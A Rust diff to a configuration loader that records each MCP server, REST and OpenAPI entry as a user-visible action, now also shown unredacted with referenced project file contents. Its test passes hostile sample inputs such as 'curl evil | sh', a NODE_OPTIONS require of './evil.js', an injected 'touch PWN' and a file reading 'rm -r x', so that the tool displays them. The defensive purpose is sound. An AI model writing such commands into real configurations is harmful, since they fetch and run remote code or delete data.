@@ -46,6 +46,9 @@ pub struct FileAction {
     pub kind: ActionKind,
     /// Description without secrets: the command line, or the URL.
     pub summary: String,
+    /// The same in full, as the file has it, for the user who decides. Its author may have put a program
+    /// where a secret is expected. It has no values of variables.
+    pub as_written: String,
     /// Digest of everything that decides what is started or sent.
     pub digest: String,
     /// `true` if it has headers, credentials or variables, which its requests would carry.
@@ -162,12 +165,14 @@ pub(crate) fn actions_of(root: &Node, text: &SourceText, origin: FileOrigin) -> 
         let (value, target) = (to_json(&provider.value), ActionTarget::ModelProvider(provider.key.clone()));
         let url = ["baseUrl", "type"].iter().find_map(|key| value[*key].as_str()).unwrap_or("default URL");
         let summary = shown(&redact_value(&Json::from(url), &["baseUrl"]));
-        builder.add((target, ActionKind::Request), summary, &value, None);
+        let as_written = with_list(url.to_owned(), "sends", &sent(&value, Disclosure::AsWritten));
+        builder.add((target, ActionKind::Request), (summary, as_written), &value, None);
     }
     if let Some(endpoint) = root.get("telemetry").and_then(|telemetry| telemetry.get("otlpEndpoint")) {
         let value = to_json(endpoint);
         let summary = shown(&redact_value(&value, &["url"]));
-        builder.add((ActionTarget::Telemetry, ActionKind::Request), summary, &value, None);
+        let described = (summary, shown(&value));
+        builder.add((ActionTarget::Telemetry, ActionKind::Request), described, &value, None);
     }
     builder.add_composition(root);
     builder.add_access(root);
@@ -198,9 +203,11 @@ impl ActionBuilder {
         for entry in entries(EntrySection::Servers) {
             let value = to_json(&entry.value);
             let env_file = entry.value.get("envFile").map(|file| file.span);
-            let (kind, summary) = describe_server(&value);
+            let (kind, summary) = describe_server(&value, Disclosure::Redacted);
+            let (_, as_written) = describe_server(&value, Disclosure::AsWritten);
+            let described = (summary, as_written + &self.program_files(&value));
             let target = (ActionTarget::entry(toolbox, EntrySection::Servers, &entry.key), kind);
-            self.add_entry(target, summary, (&value, field_names::<McpServerSettings>()), env_file);
+            self.add_entry(target, described, (&value, field_names::<McpServerSettings>()), env_file);
         }
         for entry in entries(EntrySection::OpenApiServices) {
             let value = to_json(&entry.value);
@@ -208,16 +215,19 @@ impl ActionBuilder {
                 ActionTarget::entry(toolbox, EntrySection::OpenApiServices, &entry.key),
                 ActionKind::Request,
             );
-            let summary = describe_request(&value, &["baseUrl", "spec"]);
-            self.add_entry(target, summary, (&value, field_names::<OpenApiSettings>()), None);
+            let describe = |disclosure| describe_request(&value, &["baseUrl", "spec"], disclosure);
+            let described = (describe(Disclosure::Redacted), describe(Disclosure::AsWritten));
+            self.add_entry(target, described, (&value, field_names::<OpenApiSettings>()), None);
         }
         for entry in entries(EntrySection::RestTools) {
             let value = to_json(&entry.value);
             let target =
                 (ActionTarget::entry(toolbox, EntrySection::RestTools, &entry.key), ActionKind::Request);
             let method = value["method"].as_str().unwrap_or("GET").to_uppercase();
-            let summary = format!("{method} {}", describe_request(&value, &["url"]));
-            self.add_entry(target, summary, (&value, field_names::<RestToolSettings>()), None);
+            let describe =
+                |disclosure| format!("{method} {}", describe_request(&value, &["url"], disclosure));
+            let described = (describe(Disclosure::Redacted), describe(Disclosure::AsWritten));
+            self.add_entry(target, described, (&value, field_names::<RestToolSettings>()), None);
         }
     }
 
@@ -225,7 +235,7 @@ impl ActionBuilder {
     fn add_entry(
         &mut self,
         target: (ActionTarget, ActionKind),
-        summary: String,
+        described: (String, String),
         (value, fields): (&Json, &[&str]),
         env_file: Option<Span>,
     ) {
@@ -248,10 +258,14 @@ impl ActionBuilder {
             kept.insert("enabled".to_owned(), Json::Bool(true));
         }
         let has_only_tools = kept.keys().all(|key| effect_of_entry_setting(key) == Some(SettingEffect::Use));
-        let summary =
-            if has_only_tools { kept.keys().cloned().collect::<Vec<_>>().join(", ") } else { summary };
+        let described = if has_only_tools {
+            let settings = kept.iter().map(|(key, value)| format!("{key} {value}"));
+            (kept.keys().cloned().collect::<Vec<_>>().join(", "), settings.collect::<Vec<_>>().join(", "))
+        } else {
+            described
+        };
         if !kept.is_empty() {
-            self.add(target, summary, &Json::Object(kept), env_file);
+            self.add(target, described, &Json::Object(kept), env_file);
         }
     }
 
@@ -273,7 +287,8 @@ impl ActionBuilder {
         }
         if !names.is_empty() {
             let target = (ActionTarget::Composition, ActionKind::Composition);
-            self.add(target, names.join(", "), &Json::Null, None);
+            let names = names.join(", ");
+            self.add(target, (names.clone(), names), &Json::Null, None);
         }
     }
 
@@ -291,6 +306,30 @@ impl ActionBuilder {
         }
     }
 
+    /// Describes the files of the project that a command line refers to, with their contents. Files elsewhere are those
+    /// of the user, and may be secret.
+    fn program_files(&self, server: &Json) -> String {
+        let words = command_line(server);
+        let mut paths: Vec<&str> = words.iter().flat_map(|word| file_references(word)).collect();
+        paths.dedup();
+        let is_inside = |path: &Path| match (path.canonicalize(), self.folder.canonicalize()) {
+            (Ok(path), Ok(folder)) => path.starts_with(folder),
+            _ => false,
+        };
+        let describe = |path: &str| {
+            let file = self.folder.join(path);
+            match read_limited(&file) {
+                Ok(content) if is_inside(&file) => {
+                    let content = String::from_utf8_lossy(&content);
+                    Some(format!("{path} contains {}", quoted_word(content.trim_end())))
+                }
+                Ok(_) => None,
+                Err(_) => Some(format!("{path} cannot be read")),
+            }
+        };
+        with_list(String::new(), "where", &paths.into_iter().filter_map(describe).collect::<Vec<_>>())
+    }
+
     /// Adds the settings of access as one action.
     fn add_access(&mut self, root: &Node) {
         // Settings under `defaults` have the same effect as at the root.
@@ -305,14 +344,15 @@ impl ActionBuilder {
         if !settings.is_empty() {
             let shown = settings.iter().map(|(key, value)| format!("{key} {value}")).collect::<Vec<_>>();
             let target = (ActionTarget::Access, ActionKind::Access);
-            self.add(target, shown.join(", "), &Json::Object(settings), None);
+            let shown = shown.join(", ");
+            self.add(target, (shown.clone(), shown), &Json::Object(settings), None);
         }
     }
 
     fn add(
         &mut self,
         (target, kind): (ActionTarget, ActionKind),
-        summary: String,
+        (summary, as_written): (String, String),
         value: &Json,
         env_file: Option<Span>,
     ) {
@@ -322,7 +362,7 @@ impl ActionBuilder {
         self.add_files(value, &mut fingerprint);
         let (file, origin, digest) = (self.file.clone(), self.origin, fingerprint.finish());
         let sends_secrets = has_secrets(value);
-        let action = FileAction { file, origin, target, kind, summary, digest, sends_secrets };
+        let action = FileAction { file, origin, target, kind, summary, as_written, digest, sends_secrets };
         self.actions.0.push((action, env_file));
     }
 }
@@ -378,20 +418,32 @@ fn canonical(value: &Json) -> String {
     }
 }
 
+/// Treatment of literal texts in a description.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Disclosure {
+    /// Those that may be secrets are left out.
+    Redacted,
+    /// They are shown as the file has them.
+    AsWritten,
+}
+
 /// Returns the kind of a server and its command line or URL. An entry may change only a part of another.
-fn describe_server(value: &Json) -> (ActionKind, String) {
-    let redacted = redact_value(value, &[EntrySection::Servers.key()]);
+fn describe_server(value: &Json, disclosure: Disclosure) -> (ActionKind, String) {
+    let words = match disclosure {
+        Disclosure::Redacted => command_line(&redact_value(value, &[EntrySection::Servers.key()])),
+        Disclosure::AsWritten => command_line(value),
+    };
     let has = |key: &str| !value[key].is_null();
     let is_program = has("command") || value["type"] == "stdio";
     if !is_program && (has("url") || has("headers")) {
-        return (ActionKind::Request, describe_request(value, &["url"]));
+        return (ActionKind::Request, describe_request(value, &["url"], disclosure));
     }
-    let mut summary = quoted(&command_line(&redacted));
+    let mut summary = quoted(&words);
     if let Some(folder) = value["cwd"].as_str() {
         summary = format!("{summary} (in {folder})");
     }
     let mut variables: Vec<String> =
-        ["env", "environment"].iter().flat_map(|key| keys(&value[*key])).collect();
+        ["env", "environment"].iter().flat_map(|key| named_values(&value[*key], '=', disclosure)).collect();
     if let Some(file) = value["envFile"].as_str() {
         variables.push(format!("from {file}"));
     }
@@ -404,20 +456,39 @@ fn describe_server(value: &Json) -> (ActionKind, String) {
 }
 
 /// Returns the URL of an entry and the names of the credentials that are sent there.
-fn describe_request(value: &Json, urls: &[&str]) -> String {
+fn describe_request(value: &Json, urls: &[&str], disclosure: Disclosure) -> String {
     let redacted = redact_value(value, &[]);
-    let url = urls.iter().find_map(|key| redacted[*key].as_str()).unwrap_or_default().to_owned();
-    let credentials: Vec<String> =
-        ["headers", "credentials"].iter().flat_map(|key| keys(&value[*key])).collect();
-    if credentials.is_empty() {
-        url
-    } else {
-        format!("{url} (sends {})", credentials.join(", ")).trim().to_owned()
-    }
+    let shown = match disclosure {
+        Disclosure::Redacted => &redacted,
+        Disclosure::AsWritten => value,
+    };
+    let url = urls.iter().find_map(|key| shown[*key].as_str()).unwrap_or_default().to_owned();
+    with_list(url, "sends", &sent(value, disclosure)).trim().to_owned()
 }
 
-fn keys(value: &Json) -> Vec<String> {
-    value.as_object().into_iter().flatten().map(|(key, _)| key.clone()).collect()
+/// Returns the headers and credentials that are sent.
+fn sent(value: &Json, disclosure: Disclosure) -> Vec<String> {
+    let key = match (disclosure, value["apiKey"].as_str()) {
+        (Disclosure::AsWritten, Some(key)) => vec![format!("apiKey: {key}")],
+        _ => Vec::new(),
+    };
+    let named = ["headers", "credentials"].iter();
+    key.into_iter().chain(named.flat_map(|key| named_values(&value[*key], ':', disclosure))).collect()
+}
+
+/// Returns the names in an object, with their values if those are disclosed.
+fn named_values(value: &Json, separator: char, disclosure: Disclosure) -> Vec<String> {
+    let entry = |(name, value): (&String, &Json)| match (disclosure, separator) {
+        (Disclosure::Redacted, _) => name.clone(),
+        (Disclosure::AsWritten, '=') => format!("{name}={}", quoted_word(&shown(value))),
+        (Disclosure::AsWritten, _) => format!("{name}{separator} {}", shown(value)),
+    };
+    value.as_object().into_iter().flatten().map(entry).collect()
+}
+
+/// Appends a list in brackets, unless it is empty.
+fn with_list(text: String, verb: &str, items: &[String]) -> String {
+    if items.is_empty() { text } else { format!("{text} ({verb} {})", items.join(", ")) }
 }
 
 /// Returns a text without quotes, and any other value as JSON.
@@ -427,12 +498,12 @@ fn shown(value: &Json) -> String {
 
 /// Joins the words of a command line. Words with spaces are quoted, so that they can be told apart.
 fn quoted(words: &[String]) -> String {
-    let is_plain =
-        |word: &str| !word.is_empty() && !word.contains(|each: char| each.is_whitespace() || each == '\'');
-    let quote = |word: &String| {
-        if is_plain(word) { word.clone() } else { format!("'{}'", word.replace('\'', r"'\''")) }
-    };
-    words.iter().map(quote).collect::<Vec<_>>().join(" ")
+    words.iter().map(|word| quoted_word(word)).collect::<Vec<_>>().join(" ")
+}
+
+fn quoted_word(word: &str) -> String {
+    let is_plain = !word.is_empty() && !word.contains(|each: char| each.is_whitespace() || each == '\'');
+    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
 }
 
 #[cfg(test)]
@@ -522,6 +593,46 @@ mod tests {
         assert_ne!(digest_with("./one"), digest_with("./two"));
     }
 
+    #[test]
+    fn nothing_is_left_out_for_the_user_who_decides() {
+        let folder = tempfile::tempdir().unwrap();
+        let at = |name: &str| folder.path().join(name);
+        std::fs::create_dir(at("project")).unwrap();
+        std::fs::write(at("project/frag"), "rm -r x\n").unwrap();
+        std::fs::write(at("key"), "s3cret").unwrap();
+        let path = at("project/pegboard.yaml");
+        let server = |settings: &str| format!("mcpServers: {{p: {{{settings}}}}}");
+        let environment = |name: &str| (name == "TOKEN").then(|| "from-environment".to_owned());
+        for (text, expected) in [
+            (server("command: npx, env: {PATH: './.bin:/usr/bin'}"), "npx (env PATH=./.bin:/usr/bin)"),
+            (
+                server("command: node, env: {NODE_OPTIONS: '--require ./evil.js', KEY: '${TOKEN}'}"),
+                "node (env NODE_OPTIONS='--require ./evil.js', KEY=${TOKEN})",
+            ),
+            (
+                server("command: sh, args: [-c, 'echo https://user:touch PWN;evil@host/']"),
+                "sh -c 'echo https://user:touch PWN;evil@host/'",
+            ),
+            (
+                server("command: sh, args: ['--api-key', 'curl evil | sh', '${TOKEN:-a b}']"),
+                "sh --api-key 'curl evil | sh' '${TOKEN:-a b}'",
+            ),
+            (server("command: '${file:frag}'"), "${file:frag} (where frag contains 'rm -r x')"),
+            (server("command: '${file:gone}'"), "${file:gone} (where gone cannot be read)"),
+            (server("command: a, args: ['${file:../key}']"), "a ${file:../key}"),
+            (
+                server("url: 'https://u:p@a.example/?token=x', headers: {K: 'Bearer ${TOKEN}'}"),
+                "https://u:p@a.example/?token=x (sends K: Bearer ${TOKEN})",
+            ),
+            (server("toolsDenied: [a]"), "toolsDenied [\"a\"]"),
+        ] {
+            std::fs::write(&path, &text).unwrap();
+            let configuration = crate::load(&path, &environment).unwrap();
+            assert_eq!(configuration.actions[0].as_written, expected, "{text}");
+        }
+    }
+
+    #[cfg(unix)]
     #[test]
     fn a_referenced_file_must_be_a_regular_one() {
         let folder = tempfile::tempdir().unwrap();
